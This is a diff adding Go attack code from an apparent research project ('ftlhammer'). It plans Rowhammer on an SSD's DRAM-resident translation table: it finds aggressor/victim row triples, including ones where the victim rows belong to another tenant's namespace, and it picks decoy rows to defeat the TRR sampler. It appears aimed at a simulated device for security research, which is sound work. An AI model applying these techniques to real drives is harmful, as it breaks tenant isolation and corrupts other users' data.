@@ -1,0 +1,223 @@
+package attack
+
+import (
+	"errors"
+	"fmt"
+
+	"ftlhammer/internal/dram"
+	"ftlhammer/internal/ftl"
+	"ftlhammer/internal/nvme"
+)
+
+// Binding is one hammerable placement: the DRAM triple plus, for each
+// aggressor side, the attacker-namespace-relative blocks whose L2P
+// lookups activate that row; the victim entries in between; and
+// (optionally) a same-bank far row usable as decoy or row-conflict
+// partner. It generalizes core.HammerPlan from exactly two sides to any
+// sidedness a Pattern asks for.
+type Binding struct {
+	Triple dram.Triple
+	// Sides holds, per aggressor side, the namespace-relative LBAs that
+	// activate it. Sides[0] and Sides[1] are the victim's physical
+	// neighbours; any further sides are same-bank far rows (sampler
+	// soak, many-sided patterns).
+	Sides [][]ftl.LBA
+	// VictimGlobalLBAs are the device-global blocks whose translations
+	// live in the victim row (owned by the other tenant in the
+	// cross-partition case). Each is a 64-byte line anchor: the 16
+	// consecutive entries after it share the victim DRAM row.
+	VictimGlobalLBAs []ftl.LBA
+	// DecoyLBA activates a same-bank, distant row (valid when HasDecoy).
+	DecoyLBA ftl.LBA
+	HasDecoy bool
+}
+
+// entryLBA converts an L2P DRAM address back to the device-global LBA
+// whose entry starts there (linear layout).
+func entryLBA(region dram.Region, addr uint64) ftl.LBA {
+	return ftl.LBA((addr - region.Base) / ftl.EntryBytes)
+}
+
+// bindTriple derives per-side LBA groups from a triple's addresses.
+// Aggressor addresses must belong to the attacker's namespace.
+func bindTriple(ns *nvme.Namespace, tr dram.Triple, region dram.Region) (Binding, bool) {
+	b := Binding{Triple: tr, Sides: make([][]ftl.LBA, 2)}
+	for side := 0; side < 2; side++ {
+		for _, addr := range tr.AggAddrs[side] {
+			g := entryLBA(region, addr)
+			if g >= ns.StartLBA && uint64(g-ns.StartLBA) < ns.NumLBAs {
+				b.Sides[side] = append(b.Sides[side], g-ns.StartLBA)
+			}
+		}
+		if len(b.Sides[side]) == 0 {
+			return b, false
+		}
+	}
+	for _, addr := range tr.VictimAddrs {
+		b.VictimGlobalLBAs = append(b.VictimGlobalLBAs, entryLBA(region, addr))
+	}
+	return b, true
+}
+
+// bankIndex is a per-bank index of attacker-owned rows, used to attach
+// decoys and extra far-row sides.
+type bankIndex struct {
+	rows  []int
+	addrs map[int]uint64
+}
+
+// indexOwnedRows builds, per flat bank, the attacker-owned rows of the
+// L2P region in address order (deterministic).
+func indexOwnedRows(dev *nvme.Device, ns *nvme.Namespace, region dram.Region, owner func(uint64) int) map[int]*bankIndex {
+	mapper := dev.DRAM().Mapper()
+	geo := mapper.Geometry()
+	banks := make(map[int]*bankIndex)
+	for addr := region.Base; addr < region.Base+region.Size; addr += 64 {
+		if owner(addr) != ns.ID {
+			continue
+		}
+		loc := mapper.Map(addr)
+		fb := geo.FlatBank(loc)
+		br, ok := banks[fb]
+		if !ok {
+			br = &bankIndex{addrs: make(map[int]uint64)}
+			banks[fb] = br
+		}
+		if _, seen := br.addrs[loc.Row]; !seen {
+			br.rows = append(br.rows, loc.Row)
+			br.addrs[loc.Row] = addr
+		}
+	}
+	return banks
+}
+
+// farRow reports whether row can serve as a decoy or extra side for b:
+// not an aggressor (TRR would then protect the victim), not disturbing
+// the victim row, and not already taken.
+func farRow(b *Binding, row int, taken map[int]bool) bool {
+	if row == b.Triple.AggRows[0] || row == b.Triple.AggRows[1] {
+		return false
+	}
+	if row >= b.Triple.VictimRow-1 && row <= b.Triple.VictimRow+1 {
+		return false
+	}
+	return !taken[row]
+}
+
+// attachDecoys picks, for each binding, an attacker-owned line in the
+// same bank but a distant row, used to claim the TRR sampler slot.
+func attachDecoys(bindings []Binding, ns *nvme.Namespace, region dram.Region, banks map[int]*bankIndex, geo dram.Geometry) {
+	for i := range bindings {
+		b := &bindings[i]
+		fb := b.Triple.FlatBank(geo)
+		br, ok := banks[fb]
+		if !ok {
+			continue
+		}
+		for _, row := range br.rows {
+			if !farRow(b, row, nil) {
+				continue
+			}
+			g := entryLBA(region, br.addrs[row])
+			if g >= ns.StartLBA && uint64(g-ns.StartLBA) < ns.NumLBAs {
+				b.DecoyLBA = g - ns.StartLBA
+				b.HasDecoy = true
+				break
+			}
+		}
+	}
+}
+
+// extendSides grows each binding to the requested sidedness by binding
+// additional same-bank far rows (distinct from the decoy and from each
+// other). Bindings whose bank runs out of suitable rows keep their
+// natural sidedness; the hammerer rejects them for patterns that need
+// more.
+func extendSides(bindings []Binding, ns *nvme.Namespace, region dram.Region, banks map[int]*bankIndex, geo dram.Geometry, sides int) {
+	for i := range bindings {
+		b := &bindings[i]
+		if sides <= len(b.Sides) {
+			continue
+		}
+		br, ok := banks[b.Triple.FlatBank(geo)]
+		if !ok {
+			continue
+		}
+		taken := make(map[int]bool)
+		if b.HasDecoy {
+			// The decoy row stays reserved: an extra side hammering it
+			// would turn the sampler-claiming read into an aggressor.
+			for _, row := range br.rows {
+				g := entryLBA(region, br.addrs[row])
+				if g >= ns.StartLBA && g-ns.StartLBA == b.DecoyLBA {
+					taken[row] = true
+					break
+				}
+			}
+		}
+		for _, row := range br.rows {
+			if len(b.Sides) >= sides {
+				break
+			}
+			if !farRow(b, row, taken) {
+				continue
+			}
+			g := entryLBA(region, br.addrs[row])
+			if g < ns.StartLBA || uint64(g-ns.StartLBA) >= ns.NumLBAs {
+				continue
+			}
+			taken[row] = true
+			b.Sides = append(b.Sides, []ftl.LBA{g - ns.StartLBA})
+		}
+	}
+}
+
+// AnalyzeOptions tunes the offline layout analysis.
+type AnalyzeOptions struct {
+	// VictimNSID, when non-zero, finds cross-partition bindings whose
+	// victim translations belong to that namespace (§4.2 analysis).
+	// Zero finds bindings entirely within the attacker's own partition.
+	VictimNSID int
+	// Sides extends bindings with same-bank far rows up to this
+	// sidedness (values <= 2 keep the natural two sides).
+	Sides int
+}
+
+// Analyze performs the offline §4.2 layout analysis: find every
+// (aggressor, victim, aggressor) physical row triple reachable from the
+// attacker's namespace, bind LBAs to each side, and attach decoy rows.
+// Requires the linear L2P layout (the hashed mitigation defeats exactly
+// this step).
+func Analyze(dev *nvme.Device, ns *nvme.Namespace, opts AnalyzeOptions) ([]Binding, error) {
+	owner, err := dev.L2POwner()
+	if err != nil {
+		return nil, fmt.Errorf("attack: offline layout analysis impossible: %w", err)
+	}
+	region := dev.FTL().L2PRegion()
+	mapper := dev.DRAM().Mapper()
+	geo := mapper.Geometry()
+	var triples []dram.Triple
+	if opts.VictimNSID != 0 {
+		triples = dram.FindCrossPartitionTriples(mapper, region, owner, ns.ID, opts.VictimNSID)
+	} else {
+		triples = dram.FindSameOwnerTriples(mapper, region, owner, ns.ID)
+	}
+	var bindings []Binding
+	for _, tr := range triples {
+		if b, ok := bindTriple(ns, tr, region); ok {
+			bindings = append(bindings, b)
+		}
+	}
+	if len(bindings) == 0 {
+		if opts.VictimNSID != 0 {
+			return nil, errors.New("attack: no cross-partition triples under this mapping")
+		}
+		return nil, errors.New("attack: no same-partition triples under this mapping")
+	}
+	banks := indexOwnedRows(dev, ns, region, owner)
+	attachDecoys(bindings, ns, region, banks, geo)
+	if opts.Sides > 2 {
+		extendSides(bindings, ns, region, banks, geo, opts.Sides)
+	}
+	return bindings, nil
+}
